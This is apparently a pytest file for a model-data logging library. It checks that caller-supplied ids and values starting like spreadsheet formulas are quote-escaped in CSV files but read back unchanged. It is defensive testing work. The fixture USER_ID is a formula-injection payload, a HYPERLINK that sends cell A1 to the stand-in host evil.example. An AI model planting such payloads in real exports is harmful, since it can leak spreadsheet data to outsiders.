"""Ids a caller chooses that start like a formula: guarded in the files, given back by every reader.

A request id comes from the ``x-request-id`` header and a classic correlation id from
``user_correlation_id``: both are the caller's text, so a spreadsheet opening the file must not
run them, while the analysis sees (and joins on) the original values.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
from click.testing import CliRunner

import otel_modeldata
from otel_modeldata import ModelDataCollector, RequestIdMiddleware, analysis, send_labels
from otel_modeldata.cli import main

USER_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
REQUEST_ID = "=cmd"
ROWS = [["=1+1", 3], ["plain", 4]]


def score(environ: dict[str, Any], start_response: Any) -> list[bytes]:
    """A scoring endpoint using the classic collectors, called through the request id middleware."""
    inputs = ModelDataCollector("fid", designation="inputs", feature_names=["text", "n"])
    predictions = ModelDataCollector("fid", designation="predictions", feature_names=["score"])
    context = inputs.collect(ROWS, user_correlation_id=USER_ID)
    predictions.collect([[0.5], [0.25]], user_correlation_id=context)
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [context["$aml_dc_correlation_id"].encode()]


def call(headers: dict[str, str]) -> str:
    environ = {"HTTP_" + k.upper().replace("-", "_"): v for k, v in headers.items()}
    return b"".join(RequestIdMiddleware(score)(environ, lambda *a: None)).decode()


def cells(root: Path, designation: str) -> list[dict[str, str]]:
    (path,) = root.rglob(f"fid/*/{designation}/**/*.csv")
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_caller_ids_are_guarded_in_the_file_and_read_back_as_sent(
    collector: otel_modeldata.ModelDataHandle, local_root: Path, tmp_path: Path
) -> None:
    cid = call({"x-request-id": REQUEST_ID})
    assert cid.startswith(USER_ID + "-")
    send_labels([{"$aml_dc_correlation_id": cid, "$row_index": 1, "outcome": "=paid"}], model="fid")
    assert collector.force_flush()

    for designation in ("inputs", "predictions", "labels"):
        for row in cells(local_root, designation):
            assert row["$aml_dc_correlation_id"] == "'" + cid
            # Labels are sent outside the request: their request id is the correlation id.
            assert row["$aml_request_id"] == "'" + (cid if designation == "labels" else REQUEST_ID)
    assert [r["text"] for r in cells(local_root, "inputs")] == ["'=1+1", "plain"]

    inputs = analysis.read(local_root, model="fid")
    predictions = analysis.read(local_root, model="fid", designation="predictions")
    labels = analysis.read(local_root, model="fid", designation="labels")
    for frame in (inputs, predictions, labels):
        assert set(frame["$aml_dc_correlation_id"]) == {cid}
    assert set(inputs["$aml_request_id"]) == set(predictions["$aml_request_id"]) == {REQUEST_ID}
    assert set(labels["$aml_request_id"]) == {cid}
    assert inputs["text"].tolist() == ["=1+1", "plain"]
    # The streaming reader (drift over months) gives them back the same way.
    (streamed,) = analysis.read(local_root, model="fid", block_size=1 << 16)
    assert set(streamed["$aml_dc_correlation_id"]) == {cid}
    assert set(streamed["$aml_request_id"]) == {REQUEST_ID}
    assert streamed["text"].tolist() == ["=1+1", "plain"]

    joined = analysis.join(inputs, predictions, labels).sort_values("$row_index")
    assert joined["score"].tolist() == [0.5, 0.25]
    assert joined["outcome"].isna().tolist() == [True, False]  # only row 1 was labelled
    assert joined["outcome"].tolist()[1] == "=paid"
    assert joined["$aml_dc_correlation_id"].tolist() == [cid, cid]

    # CSV outputs of the command are for spreadsheets too: the guard is back; Parquet holds the values.
    for command in ("read", "join"):
        out = tmp_path / f"{command}.csv"
        result = CliRunner().invoke(
            main, [command, "--source", str(local_root), "--model", "fid", "-o", str(out)]
        )
        assert result.exit_code == 0, result.output
        written = pd.read_csv(out, dtype=str, keep_default_na=False)
        assert set(written["$aml_dc_correlation_id"]) == {"'" + cid}
        assert set(written["$aml_request_id"]) == {"'" + REQUEST_ID}
        assert written["text"].tolist() == ["'=1+1", "plain"]
        if command == "join":
            assert written["outcome"].tolist()[1] == "'=paid"
        parquet = tmp_path / f"{command}.parquet"
        result = CliRunner().invoke(
            main, [command, "--source", str(local_root), "--model", "fid", "-o", str(parquet)]
        )
        assert result.exit_code == 0, result.output
        table = pq.read_table(parquet).to_pandas()
        assert set(table["$aml_dc_correlation_id"]) == {cid}
        assert table["text"].tolist() == ["=1+1", "plain"]


def test_csv_on_stdout_is_guarded_too(collector: otel_modeldata.ModelDataHandle, local_root: Path) -> None:
    cid = call({"x-request-id": REQUEST_ID})
    assert collector.force_flush()
    result = CliRunner().invoke(main, ["read", "--source", str(local_root), "--model", "fid"])
    assert result.exit_code == 0, result.output
    written = pd.read_csv(io.StringIO(result.stdout), dtype=str, keep_default_na=False)
    assert set(written["$aml_dc_correlation_id"]) == {"'" + cid}
    assert written["text"].tolist() == ["'=1+1", "plain"]


def test_names_from_code_that_start_like_a_formula_are_guarded_too(
    collector: otel_modeldata.ModelDataHandle, local_root: Path
) -> None:
    ModelDataCollector("@fid", designation="inputs", feature_names=["n"], model_version="+2").collect([[1]])
    assert collector.force_flush()
    (path,) = local_root.rglob("*.csv")
    with path.open(newline="", encoding="utf-8") as f:
        (row,) = csv.DictReader(f)
    assert (row["$aml_model_name"], row["$aml_model_version"]) == ("'@fid", "'+2")
    read = analysis.read(local_root, model="@fid", version="+2")
    assert (read["$aml_model_name"].tolist(), read["$aml_model_version"].tolist()) == (["@fid"], ["+2"])
